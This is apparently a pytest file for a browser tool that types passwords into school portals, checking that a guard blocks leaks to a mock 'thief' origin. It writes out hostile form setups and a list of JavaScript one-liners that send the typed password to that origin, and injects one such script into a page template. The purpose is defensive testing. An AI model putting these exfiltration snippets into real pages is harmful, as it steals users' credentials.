"""Typing a secret: on one element, with all its checks at that instant, and nothing leaves for
another origin while it stands in the page.
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from unittest.mock import AsyncMock

import pytest
from fixtures_pages import Pages
from fixtures_rotation import LOGIN, PASSWORD, open_scene
from jinja2 import ChoiceLoader, DictLoader
from releve.base.secret import Secret
from releve.decision import events as ev
from releve.portal import TALKATIVE
from releve.portal.browser import PortalBrowser
from releve.portal.errors import FieldTooShort, OriginRefused, PortalError, UnsafeForm
from releve.school import World
from releve.school.people import DEMO_ACCOUNT
from releve.school.web import TEMPLATES, Skin

here = pytest.mark.asyncio(loop_scope="module")

WORD = "Saisie-2026&<x>"


@pytest.fixture(scope="module")
def thief() -> Iterator[Pages]:
    """Another origin, which writes down what it is asked."""
    served = Pages()
    yield served
    served.server.shutdown()


@pytest.fixture(scope="module")
def window(pages_window: PortalBrowser) -> PortalBrowser:
    return pages_window


async def typed(window: PortalBrowser, pages: Pages, body: str, base: str = "") -> str:
    """Type in the field of that body; returns what it holds then."""
    pages.at["/"] = f"<!doctype html><meta charset=utf-8>{base}<body>{body}"
    await window.goto(f"{pages.origin}/")
    async with window.on("Authentification"), window.guarded():
        field = window.page.locator("[data-is=it]")
        try:
            await window.type_secret(field, Secret(WORD))
        finally:
            held = await field.evaluate("el => el.value")
    return str(held)


HELD = "<input type=password data-is=it>"
SRCDOC = "<iframe srcdoc='{held}'></iframe>"


@here
async def test_a_form_that_posts_here_is_typed_in(window: PortalBrowser, pages: Pages) -> None:
    """With and without an action, and where a field is called as the form's own properties are."""
    for form in (
        f"<form method=post>{HELD}</form>",
        f"<form method=POST action='/x'><input name=method value=get><input name=action>{HELD}</form>",
        HELD,
    ):
        assert WORD == await typed(window, pages, form), form


@here
async def test_the_page_hears_of_it(window: PortalBrowser, pages: Pages) -> None:
    """Scripts are told as by a keyboard."""
    body = "<form method=post oninput='document.title+=`i`' onchange='document.title+=`c`'>"
    assert WORD == await typed(window, pages, f"{body}{HELD}</form>")
    assert "ic" == await window.page.title()


ATTACKS = {
    "get": ("<form>{held}</form>", "", UnsafeForm),
    "method of the button": (
        "<form method=post>{held}<button formmethod=get>x</button></form>",
        "",
        UnsafeForm,
    ),
    "action": ("<form method=post action='{thief}'>{held}</form>", "", OriginRefused),
    "action under a field's name": (
        "<form method=post action='{thief}'><input name=action value='/'>{held}</form>",
        "",
        OriginRefused,
    ),
    "formaction": (
        "<form method=post id=f>{held}</form><button form=f formaction='{thief}'>x</button>",
        "",
        OriginRefused,
    ),
    "base": ("<form method=post action='x'>{held}</form>", "<base href='{thief}'>", OriginRefused),
    "field of another form": (
        "<form id=f method=post action='{thief}'></form><input form=f data-is=it>",
        "",
        OriginRefused,
    ),
    "too short": (
        "<form method=post><input type=password maxlength=8 data-is=it></form>",
        "",
        FieldTooShort,
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
@here
async def test_nothing_is_typed(
    window: PortalBrowser, pages: Pages, thief: Pages, name: str
) -> None:
    """A form that would take it elsewhere, or show it in an address, gets nothing."""
    body, base, error = ATTACKS[name]
    facts = {"held": HELD, "thief": f"{thief.origin}/"}
    with pytest.raises(error):
        await typed(window, pages, body.format(**facts), base.format(**facts))
    assert "" == await window.page.locator("[data-is=it]").evaluate("el => el.value")


@pytest.mark.parametrize("body", ["<form method=post>{held}</form>", "{held}", SRCDOC])
@here
async def test_a_frame_of_another_origin_gets_nothing(
    window: PortalBrowser, pages: Pages, thief: Pages, body: str
) -> None:
    """Where the frame stands counts, not the page around it; one without an address stands where
    the frame around it does.
    """
    thief.at["/f"] = body.format(held=HELD)
    pages.at["/"] = f"<iframe src='{thief.origin}/f'></iframe>"
    await window.goto(f"{pages.origin}/")
    frame = window.page.frame_locator("iframe")
    inside = frame.frame_locator("iframe") if body == SRCDOC else frame
    field = inside.locator("[data-is=it]")
    await field.wait_for()
    with pytest.raises(PortalError):
        async with window.on("Authentification"), window.guarded():
            await window.type_secret(field, Secret(WORD))
    assert "" == await field.evaluate("el => el.value")


@pytest.mark.parametrize("body", ["<form method=post>{held}</form>", SRCDOC])
@here
async def test_the_origin_of_a_frame_is_told_before_it_is_typed_in(
    window: PortalBrowser,
    pages: Pages,
    thief: Pages,
    body: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Where the settings allow both: the journal names the page's and the frame's."""
    both = replace(window.settings, origins=(pages.origin, thief.origin))
    monkeypatch.setattr(window, "settings", both)
    told: list[ev.OriginMet] = []
    monkeypatch.setattr(window, "on_origin", told.append)
    thief.at["/f"] = body.format(held=HELD)
    pages.at["/"] = f"<iframe src='{thief.origin}/f'></iframe>"
    await window.goto(f"{pages.origin}/")
    frame = window.page.frame_locator("iframe")
    field = (frame.frame_locator("iframe") if body == SRCDOC else frame).locator("[data-is=it]")
    await field.wait_for()
    for type_in in ("secret", "code"):
        told.clear()
        async with window.on("Authentification"), window.guarded():
            if type_in == "secret":
                await window.type_secret(field, Secret(WORD))
            else:
                await window.type_code(await field.element_handle(), WORD)
        assert WORD == await field.evaluate("el => el.value")
        assert {pages.origin, thief.origin} == {met.origin for met in told}, type_in


@here
async def test_a_frame_without_an_address_is_its_page_s(
    window: PortalBrowser, pages: Pages
) -> None:
    """The page's own, where the page may be typed in."""
    pages.at["/"] = SRCDOC.format(held=HELD)
    await window.goto(f"{pages.origin}/")
    field = window.page.frame_locator("iframe").locator("[data-is=it]")
    async with window.on("Authentification"), window.guarded():
        await window.type_secret(field, Secret(WORD))
    assert WORD == await field.evaluate("el => el.value")


LEAKS = {
    "picture": "new Image().src = u",
    "fetch": "fetch(u, { mode: 'no-cors' })",
    "beacon": "navigator.sendBeacon(u, v)",
    "style": "document.body.style.backgroundImage = `url(${u})`",
    "script": "document.head.append(Object.assign(document.createElement('script'), { src: u }))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: u }))",
    "form": "{ const f = document.createElement('form'); f.action = u; f.method = 'post'; document.body.append(f); f.submit() }",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: u }))",
    "rules to fetch ahead": "document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', "
    "textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [u] }] }) }))",
    "ping": "Object.assign(document.body.appendChild(document.createElement('a')), { href: '#', ping: u }).click()",
    "address": "location = u",
    "window": "window.open(u)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${u}', { mode: 'no-cors' })`])))",
    "module": "import(u).catch(() => 0)",
    "new socket": "new WebSocket(u.replace('http', 'ws'))",
    # a frame that was there before has none of the document's policy
    "socket of a frame": "new frames[0].WebSocket(u.replace('http', 'ws'))",
}


@pytest.mark.parametrize("name", LEAKS)
@here
async def test_nothing_leaves_for_another_origin(
    window: PortalBrowser, pages: Pages, thief: Pages, name: str
) -> None:
    """Whatever the page does with what is typed."""
    thief.asked.clear()
    script = f"const v = this.value, u = '{thief.origin}/?' + encodeURIComponent(v); {LEAKS[name]}"
    held = f'<input type=password data-is=it oninput="{script}">'
    pages.at["/"] = f"<!doctype html><body><iframe></iframe><form method=post>{held}</form>"
    await window.goto(f"{pages.origin}/")
    async with window.on("Authentification"), window.guarded():
        await window.type_secret(window.page.locator("[data-is=it]"), Secret(WORD))
        await window.page.wait_for_timeout(250)
    assert [] == [each for each in thief.asked if "Saisie" in each]


SUMMARY = "chorus/summary.html"
AWAY = ("address", "form", "window")  # each takes the window elsewhere, if it can


def taking_away(thief: Pages, names: Iterable[str]) -> Skin:
    """The school, but for its summary: that tries all these while it shows the password."""
    tries = "".join(
        f"try {{ const u = `{thief.origin}/{name.replace(' ', '-')}?` + encodeURIComponent(v);"
        f" {LEAKS[name]} }} catch {{}}\n"
        for name in names
    )
    script = (
        "<iframe></iframe><script>const v = document.querySelector('dd.password').innerText;\n"
        f"{tries}</script>"
    )
    assert TEMPLATES.loader is not None
    page, _, _ = TEMPLATES.loader.get_source(TEMPLATES, SUMMARY)
    page, _, end = page.rpartition("{% endblock %}")  # what leads away ends the reading of a page
    loader = DictLoader({SUMMARY: f"{page}{script}{{% endblock %}}{end}"})
    return Skin(TEMPLATES.overlay(loader=ChoiceLoader([loader, TEMPLATES.loader])))


@pytest.mark.one_in(2)
@pytest.mark.parametrize(
    ("names", "rejected"), [([n for n in LEAKS if n not in AWAY], 1), (AWAY, 0)], ids=("stay", "go")
)
async def test_nothing_leaves_while_the_new_password_is_shown(
    tmp_path: Path, thief: Pages, names: Sequence[str], rejected: int
) -> None:
    """From the page's first byte until it is left, by a password that is refused too; and the
    password is read and kept all the same.
    """
    thief.asked.clear()
    world = World(password=PASSWORD, login=LOGIN, demo_account=DEMO_ACCOUNT)
    world.faults.slash_in_first = rejected
    with open_scene(tmp_path, world, taking_away(thief, names)) as scene:
        ended = await scene.walk()
        assert ("", 1 + rejected) == (ended.error, scene.resets()), ended.text
        assert scene.three_places_agree()
    assert [] == thief.asked


@pytest.mark.one_in(2)
@pytest.mark.parametrize("before", [True, False], ids=["known", "unknown"])
async def test_what_drew_the_pages_before_draws_the_summary_too(
    tmp_path: Path, thief: Pages, before: bool
) -> None:
    """A library of another origin: by the same address, which carries nothing. One that no page
    has had is not loaded, and the password is not lost for it.
    """
    thief.asked.clear()
    thief.at["/lib.js"] = "document.documentElement.dataset.drawn = ''"
    library = f"<script src='{thief.origin}/lib.js'></script>"
    hidden = "<style>html:not([data-drawn]) dd.password { display: none }</style>"
    assert TEMPLATES.loader is not None
    pages = {}
    for name, more in {SUMMARY: hidden + library, "chorus/structure.html": library * before}.items():
        page, _, _ = TEMPLATES.loader.get_source(TEMPLATES, name)
        page, _, end = page.rpartition("{% endblock %}")
        pages[name] = f"{page}{more}{{% endblock %}}{end}"
    skin = Skin(TEMPLATES.overlay(loader=ChoiceLoader([DictLoader(pages), TEMPLATES.loader])))
    world = World(password=PASSWORD, login=LOGIN, demo_account=DEMO_ACCOUNT)
    with open_scene(tmp_path, world, skin) as scene:
        scene.portal = {"timeout_seconds": 5}
        ended = await scene.walk(until="mot-de-passe")
    assert ("" if before else "PasswordUnreadable") == ended.error, ended.text
    assert before == ("/lib.js" in thief.asked)


@pytest.mark.long
async def test_that_page_does_reach_the_other_origin(
    tmp_path: Path, thief: Pages, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without the guard: the test before is not blind."""
    thief.asked.clear()
    monkeypatch.setattr(PortalBrowser, "hold", AsyncMock())
    world = World(password=PASSWORD, login=LOGIN, demo_account=DEMO_ACCOUNT)
    names = [name for name in LEAKS if name not in AWAY]
    with open_scene(tmp_path, world, taking_away(thief, names)) as scene:
        await scene.walk(until="mot-de-passe")
    asked = {each[1:].partition("?")[0].replace("-", " ") for each in thief.asked}
    assert {"fetch", "beacon", "script"} <= asked  # others wait until the page has time


@here
async def test_the_guard_is_not_blind(window: PortalBrowser, pages: Pages, thief: Pages) -> None:
    """The same page reaches the other origin when no secret stands in it."""
    thief.asked.clear()
    pages.at["/"] = f"<body><script>new Image().src = '{thief.origin}/?seen'</script>"
    await window.goto(f"{pages.origin}/")
    await window.page.wait_for_load_state("networkidle")
    assert ["/?seen"] == thief.asked


@here
async def test_a_secret_is_typed_behind_the_guard_only(window: PortalBrowser, pages: Pages) -> None:
    """Whoever forgets it learns of it at once."""
    pages.at["/"] = f"<form method=post>{HELD}</form>"
    await window.goto(f"{pages.origin}/")
    with pytest.raises(AssertionError, match="guard"):
        await window.type_secret(window.page.locator("[data-is=it]"), Secret(WORD))


@pytest.mark.parametrize("name", TALKATIVE)
@here
async def test_nothing_is_typed_where_playwright_would_tell(
    window: PortalBrowser, pages: Pages, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """Whoever sets it later in the process."""
    monkeypatch.setenv(name, "x")
    with pytest.raises(AssertionError, match=name):
        await typed(window, pages, f"<form method=post>{HELD}</form>")
    assert "" == await window.page.locator("[data-is=it]").evaluate("el => el.value")


def test_what_makes_playwright_talk_is_gone_before_it_is_imported() -> None:
    """In a process that was started with all of it set."""
    program = (
        "import os, sys, releve.portal; assert 'playwright' not in sys.modules;"
        "import releve.portal.browser; print([n for n in os.environ if n in releve.portal.TALKATIVE])"
    )
    environment = {name: "x" for name in TALKATIVE if name != "NODE_OPTIONS"} | {"PATH": ""}
    done = subprocess.run(
        [sys.executable, "-c", program], env=environment, capture_output=True, text=True, check=True
    )
    assert "[]\n" == done.stdout
